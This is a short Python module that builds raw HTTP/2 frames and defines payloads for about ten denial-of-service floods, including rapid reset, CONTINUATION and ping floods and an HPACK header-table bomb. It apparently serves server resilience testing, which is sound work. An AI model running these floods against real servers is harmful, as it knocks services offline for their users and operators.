"""Frames of HTTP/2 (RFC 9113), and floods of them."""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, payload=b"", flags=0, stream=0):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(*values):
    return frame(SETTINGS, b"".join(struct.pack(">HI", number, value) for number, value in values))


def text(value):
    data = value.encode()
    assert len(data) < 127
    return bytes([len(data)]) + data


def block(name="localhost", method="GET", path="/.well-known/apple-app-site-association", extra=b""):
    fields = {":method": method, ":scheme": "https", ":path": path, ":authority": name}
    return b"".join(b"\x00" + text(key) + text(value) for key, value in fields.items()) + extra


def request(stream, flags=END_STREAM | END_HEADERS, **fields):
    return frame(HEADERS, block(**fields), flags, stream)


# One field of 3,900 bytes in the table, and then a byte for each time that it counts.
LARGE = b"\x40" + text("x") + b"\x7f" + bytes([3900 - 127 & 0x7F | 0x80, 3900 - 127 >> 7]) + b"y" * 3900
BOMB = b"\xbe" * 15_000


def number(index):
    return 2 * index + 1


# What is sent again and again, by its index in the flood.
FLOODS = {
    "rapid reset": lambda index: request(number(index)) + frame(RST_STREAM, struct.pack(">I", 8), stream=number(index)),
    "provoked reset": lambda index: request(number(index), extra=b"\x00" + text("te") + text("gzip")),
    "continuation": lambda index: frame(CONTINUATION, stream=1) if index else frame(HEADERS, block(), stream=1),
    "ping": lambda index: frame(PING, b"12345678"),
    "settings": lambda index: settings((4, 1000)),
    "empty data": lambda index: frame(DATA, stream=1) if index else request(1, END_HEADERS, method="POST"),
    "unknown": lambda index: frame(0xEE, b"x" * 100),
    "window update": lambda index: frame(WINDOW_UPDATE, struct.pack(">I", 1)),
    "streams": lambda index: request(number(index), name="big.example"),
    "bomb": lambda index: request(number(index), extra=BOMB if index else LARGE)
    + frame(RST_STREAM, struct.pack(">I", 8), stream=number(index)),
}
